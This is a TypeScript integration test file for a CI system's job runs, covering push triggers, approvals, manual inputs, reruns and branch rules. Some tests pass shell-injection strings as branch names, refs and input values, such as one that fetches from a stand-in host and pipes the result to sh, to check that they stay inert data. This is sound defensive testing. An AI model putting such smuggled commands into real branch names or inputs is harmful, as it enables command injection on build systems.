/** Runs: which pushes start them, who may approve them, and what their jobs get. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { eventually } from '../support/eventually.ts';
import { remote, Workspace } from '../support/git.ts';
import { type Client, startApp, type TestApp } from '../support/harness.ts';
import { expectRefusal } from '../support/refusal.ts';

let app: TestApp;
let ada: Client;
let bob: Client;
let workspace: Workspace;

beforeAll(async () => {
  app = await startApp();
  ada = await app.user('ada');
  bob = await app.user('bob');
  workspace = await Workspace.open();
});
afterAll(async () => {
  await workspace[Symbol.asyncDispose]();
  await app[Symbol.asyncDispose]();
});

/** Creates a repository whose clone has a commit with these files. */
async function create(name: string, files: Record<string, string>): Promise<string> {
  const { body } = await ada.post('/auth/v1/repository/ada', { name, auto_init: false });
  await workspace.clone(ada, `ada/${name}`);
  await workspace.commit(name, files);
  return body.id;
}

const push = (name: string, ...args: string[]) =>
  workspace.git(name, 'push', '-q', 'origin', ...(args.length > 0 ? args : ['HEAD']));

type Run = {
  id: string;
  number: number;
  status: string;
  trigger: string;
  ref: string;
  actor: string;
  approvedBy: string | null;
  problems: { line: number; message: string }[];
  jobs: {
    name: string;
    runJob: string;
    environmentNames: string[];
    command: string;
    branch: string | null;
  }[];
};

const RUNS = `query ($name: String!) { repository(namespace: "ada", name: $name) { runs(first: 50) { nodes {
  id number status trigger ref actor approvedBy problems { line message }
  jobs { name runJob environmentNames command branch } } } } }`;

/** The runs of a repository, oldest first, once its triggers were used. */
async function runsOf(name: string, client = ada): Promise<Run[]> {
  await eventually(async () => {
    const { rows } = await app.pool.query('select from run_triggers');
    expect(rows).toEqual([]);
  });
  const { repository } = await client.gql(RUNS, { name });
  return repository.runs.nodes.toReversed();
}

const JOBS = `jobs:
  test:
    on: { push: { branches: [main, "feature/**"], paths: ["src/**"] }, tag: ["v*"], manual: true }
    command: sleep 60
  train:
    needs: [test]
    matrix: { seed: [1, 2] }
    command: echo $SEED
`;

test('pushes start runs of the jobs that they match', async () => {
  await create('plain', { '.loam/jobs.yml': JOBS, 'src/a': 'a' });
  await push('plain');
  const [first] = await runsOf('plain');
  expect(first).toMatchObject({ number: 1, trigger: 'PUSH', ref: 'refs/heads/main', actor: 'ada' });
  expect(first?.jobs.map(({ name, runJob }) => [name, runJob])).toEqual([
    ['test-1', 'test'],
    ['train-1-1', 'train'],
    ['train-1-2', 'train'],
  ]);
  expect(first?.jobs[1]?.environmentNames).toEqual(['SEED']);

  await workspace.commit('plain', { 'README.md': 'text' });
  await push('plain');
  expect(await runsOf('plain')).toHaveLength(1);
  await workspace.commit('plain', { 'src/b': 'b' }, 'Change\n\n[skip jobs]');
  await push('plain');
  expect(await runsOf('plain')).toHaveLength(1);
  await workspace.commit('plain', { 'src/b': 'c' });
  await workspace.git('plain', 'tag', 'v2');
  await push('plain', 'v2', 'HEAD:refs/heads/feature/x', 'HEAD:refs/heads/other');
  const runs = await runsOf('plain');
  expect(
    runs
      .slice(1)
      .map(({ trigger, ref }) => [trigger, ref])
      .sort(),
  ).toEqual([
    ['PUSH', 'refs/heads/feature/x'],
    ['TAG', 'refs/tags/v2'],
  ]);
  expect(runs.flatMap(({ number }) => number)).toEqual([1, 2, 3]);
  // The files of other repositories share the namespace, and so the names.
  await create('other', { '.loam/jobs.yml': JOBS, 'src/a': 'a' });
  await push('other');
  expect((await runsOf('other'))[0]?.jobs[0]?.name).toBe('other-test-1');
});

test('an invalid file makes an invalid run', async () => {
  await create('invalid', {
    '.loam/jobs.yml': 'jobs:\n  a:\n    on: { push: true }\n    comand: x\n',
  });
  await push('invalid');
  const [run] = await runsOf('invalid');
  expect(run).toMatchObject({ status: 'INVALID', jobs: [] });
  expect(run?.problems).toContainEqual({ line: 4, message: 'Unknown key "comand" in jobs.a' });
});

test('names of branches are data', async () => {
  await create('hostile', {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of the file has it.
    '.loam/jobs.yml': 'jobs: {a: {on: {push: true}, command: echo, labels: {b: "${branch}"}}}',
  });
  const branch = 'a";curl$(evil)|sh';
  await push('hostile', `HEAD:refs/heads/${branch}`);
  const [run] = await runsOf('hostile');
  expect(run?.jobs).toMatchObject([{ command: 'echo', branch }]);
});

test('a push with a credential that may not create jobs waits for approval by one that may', async () => {
  await create('careful', { '.loam/jobs.yml': 'jobs: {a: {on: {push: true}, command: echo}}' });
  const pusher = await ada.withToken({ scopes: ['REPO_WRITE'] });
  await workspace.git('careful', 'push', '-q', remote(pusher, 'ada/careful'), 'HEAD');
  const [run] = await runsOf('careful');
  expect(run).toMatchObject({ status: 'WAITING_FOR_APPROVAL', jobs: [], actor: 'ada' });
  const APPROVE = `mutation ($id: ID!) { approveRun(input: { id: $id }) { run { status approvedBy jobs { name createdBy { username } } } } }`;
  for (const client of [pusher, bob]) {
    const { errors } = await client.graphql(APPROVE, { id: run?.id });
    expect(errors?.[0]?.extensions.code).toBe('PERMISSION_DENIED');
  }
  const { approveRun } = await ada.gql(APPROVE, { id: run?.id });
  expect(approveRun.run).toMatchObject({
    approvedBy: 'ada',
    jobs: [{ createdBy: { username: 'ada' } }],
  });
  await expectRefusal(ada.graphql(APPROVE, { id: run?.id }), 'CONFLICT');
});

test('users start, cancel and repeat runs', async () => {
  const id = await create('manual', { '.loam/jobs.yml': JOBS });
  await push('manual', 'HEAD:refs/heads/side', 'HEAD');
  const START = `mutation ($input: StartRunInput!) { startRun(input: $input) { run { id number trigger ref status jobs { name } } } }`;
  const { startRun } = await ada.gql(START, { input: { id, ref: 'side', job: 'test' } });
  expect(startRun.run).toMatchObject({ trigger: 'MANUAL', ref: 'refs/heads/side' });
  expect(startRun.run.jobs).toHaveLength(3);
  const refused = async (input: object, client = ada) =>
    (await client.graphql(START, { input: { id, ...input } })).errors?.[0]?.extensions.code;
  expect(await refused({ job: 'train' })).toBe('INVALID_REQUEST');
  expect(await refused({ ref: 'nowhere' })).toBe('NOT_FOUND');
  expect(await refused({ ref: 'a";curl' })).toBe('NOT_FOUND');
  expect(await refused({}, bob)).toBe('PERMISSION_DENIED');

  const CANCEL =
    'mutation ($id: ID!) { cancelRun(input: { id: $id }) { run { jobs { status } } } }';
  const { cancelRun } = await ada.gql(CANCEL, { id: startRun.run.id });
  expect(cancelRun.run.jobs.map(({ status }: { status: string }) => status)).toEqual(
    Array(3).fill('CANCELLED'),
  );
});

const TRAIN = `jobs:
  train:
    on:
      push: true
      manual:
        inputs:
          epochs: { type: integer, default: 10, min: 1, description: How long }
          model: { type: choice, options: [small, large], default: small }
          note: {}
    command: test "$EPOCHS $MODEL"
  report: { needs: [train], command: "true", env: { MODEL: own } }
  other: { on: { manual: true }, command: "true" }
`;

test('users give values when they start jobs, and a rerun keeps them', async () => {
  const id = await create('inputs', { '.loam/jobs.yml': TRAIN });
  await push('inputs');
  const envOf = async (runId: string) => {
    const { rows } = await app.pool.query(
      'select run_job, env from jobs where run_id = $1 order by id',
      [runId],
    );
    return Object.fromEntries(rows.map(({ run_job, env }) => [run_job, env]));
  };
  // A run that no user starts has the defaults.
  const [pushed] = await runsOf('inputs');
  expect(await envOf(pushed?.id ?? '')).toEqual({
    train: { EPOCHS: '10', MODEL: 'small' },
    report: { EPOCHS: '10', MODEL: 'own' },
  });

  const START = `mutation ($input: StartRunInput!) { startRun(input: $input) { run { id number inputs { name value } } } }`;
  const start = (inputs: object[], job = 'train') =>
    ada.graphql(START, { input: { id, job, inputs } });
  const note = { name: 'note', value: 'a"; $(curl evil)' };
  const { data } = await start([note, { name: 'epochs', value: '20' }]);
  const { run } = data.startRun;
  expect(run.inputs).toEqual([
    { name: 'epochs', value: '20' },
    { name: 'model', value: 'small' },
    note,
  ]);
  expect(await envOf(run.id)).toEqual({
    train: { EPOCHS: '20', MODEL: 'small', NOTE: note.value },
    report: { EPOCHS: '20', MODEL: 'own', NOTE: note.value },
  });

  const refused = async (inputs: object[], job?: string) => {
    const { errors } = await start(inputs, job);
    expect(errors?.[0]?.extensions).toMatchObject({ code: 'INVALID_REQUEST', field: 'inputs' });
    return errors?.[0]?.message;
  };
  expect(await refused([])).toBe('inputs: note must be given');
  expect(await refused([note, { name: 'epochs', value: '1.5' }])).toBe(
    'inputs: epochs must be a whole number',
  );
  expect(await refused([note, { name: 'epochs', value: '0' }])).toBe(
    'inputs: epochs must be at least 1',
  );
  expect(await refused([note, { name: 'model', value: 'huge' }])).toBe(
    'inputs: model must be one of small, large',
  );
  expect(await refused([note, note])).toBe('inputs: note is given twice');
  expect(await refused([{ name: 'seed', value: '1' }])).toBe(
    'inputs: must be epochs, model, note; there is no "seed"',
  );
  expect(await refused([note], 'other')).toBe('inputs: the jobs have no inputs: "note"');
  expect(await refused([{ name: 'note', value: 'x'.repeat(65_537) }])).toContain(
    '65536 characters',
  );
  expect(await runsOf('inputs')).toHaveLength(2);

  await ada.gql('mutation ($id: ID!) { cancelRun(input: { id: $id }) { run { id } } }', {
    id: run.id,
  });
  const RERUN = `mutation ($id: ID!) { rerunRun(input: { id: $id }) { run { id inputs { name value } } } }`;
  await eventually(async () => {
    const { data: again, errors } = await ada.graphql(RERUN, { id: run.id });
    expect(errors).toBeUndefined();
    expect(again.rerunRun.run.inputs).toEqual(run.inputs);
    expect(await envOf(again.rerunRun.run.id)).toEqual(await envOf(run.id));
  });

  const STARTABLE = `query ($ref: String) { repository(namespace: "ada", name: "inputs") { startableJobs(ref: $ref) {
    name inputs { name type description default options min max } } } }`;
  const { repository } = await ada.gql(STARTABLE, { ref: null });
  expect(repository.startableJobs).toEqual([
    {
      name: 'train',
      inputs: [
        {
          name: 'epochs',
          type: 'INTEGER',
          description: 'How long',
          default: '10',
          options: [],
          min: 1,
          max: null,
        },
        expect.objectContaining({ name: 'model', type: 'CHOICE', options: ['small', 'large'] }),
        expect.objectContaining({ name: 'note', type: 'STRING', default: null }),
      ],
    },
    { name: 'other', inputs: [] },
  ]);
  await expectRefusal(ada.graphql(STARTABLE, { ref: 'nowhere' }), 'NOT_FOUND');
});

test('the status of a commit is that of its latest run, also after the clock was set back', async () => {
  const id = await create('clock', { '.loam/jobs.yml': JOBS, 'src/a': 'a' });
  await push('clock');
  const [first] = await runsOf('clock');
  // As if the clock had been years ahead when the first run was created: ids of runs begin with their time.
  const ahead = `run_7zzzzzzz${first?.id.slice('run_7zzzzzzz'.length)}`;
  for (const [table, column] of [
    ['runs', 'id'],
    ['jobs', 'run_id'],
    ['commit_statuses', 'run_id'],
  ])
    await app.pool.query(`update ${table} set ${column} = $1 where ${column} = $2`, [
      ahead,
      first?.id,
    ]);
  const START = `mutation ($input: StartRunInput!) { startRun(input: $input) { run { id } } }`;
  const { startRun } = await ada.gql(START, { input: { id, ref: 'main', job: 'test' } });
  const { rows } = await app.pool.query(
    `select distinct run_id from commit_statuses where repository_id = $1`,
    [id],
  );
  expect(rows).toEqual([{ run_id: startRun.run.id }]);
  // The earlier run reports no more.
  await ada.gql('mutation ($id: ID!) { cancelRun(input: { id: $id }) { run { id } } }', {
    id: ahead,
  });
  const states = await app.pool.query(
    `select distinct state from commit_statuses where repository_id = $1`,
    [id],
  );
  expect(states.rows).toEqual([{ state: 'pending' }]);
});

test('a branch takes only commits on which its required jobs succeeded', async () => {
  const id = await create('trunk', {
    '.loam/jobs.yml': 'jobs: {test: {on: {push: {branches: ["try/**"]}}, command: echo}}',
  });
  await push('trunk');
  const RULE = `mutation ($input: SetBranchRuleInput!) { setBranchRule(input: $input) { repository { branchRules { nodes { requiredJobs } } } } }`;
  const rule = { id, pattern: 'main', requiredJobs: ['test', 'test'] };
  const { setBranchRule } = await ada.gql(RULE, { input: rule });
  expect(setBranchRule.repository.branchRules.nodes).toEqual([{ requiredJobs: ['test'] }]);
  const { errors } = await ada.graphql(RULE, { input: { ...rule, requiredJobs: ['a b'] } });
  expect(errors?.[0]?.extensions.field).toBe('requiredJobs');

  const sha = await workspace.commit('trunk', { 'a.txt': 'a' });
  const refused = await workspace.try('trunk', 'push', 'origin', 'HEAD:main');
  expect(refused.code).toBe(1);
  expect(refused.stderr).toContain(`test: has not run on ${sha.slice(0, 10)}`);
  // What a user reports does not count, and nobody can report the state of a run's job.
  const SET =
    'mutation ($input: SetCommitStatusInput!) { setCommitStatus(input: $input) { status { state } } }';
  const status = { namespace: 'ada', name: 'trunk', sha, context: 'test', state: 'SUCCESS' };
  await push('trunk', 'HEAD:refs/heads/other');
  await ada.gql(SET, { input: status });
  expect((await workspace.try('trunk', 'push', 'origin', 'HEAD:main')).code).toBe(1);
  await push('trunk', 'HEAD:refs/heads/try/a');
  await runsOf('trunk');
  const forged = await ada.graphql(SET, { input: status });
  await expectRefusal(forged, 'CONFLICT');
  const pending = await workspace.try('trunk', 'push', 'origin', 'HEAD:main');
  expect(pending.stderr).toContain('test: has not ended');
  await app.pool.query(`update commit_statuses set state = 'success' where sha = $1`, [sha]);
  expect((await workspace.try('trunk', 'push', 'origin', 'HEAD:main')).code).toBe(0);
});
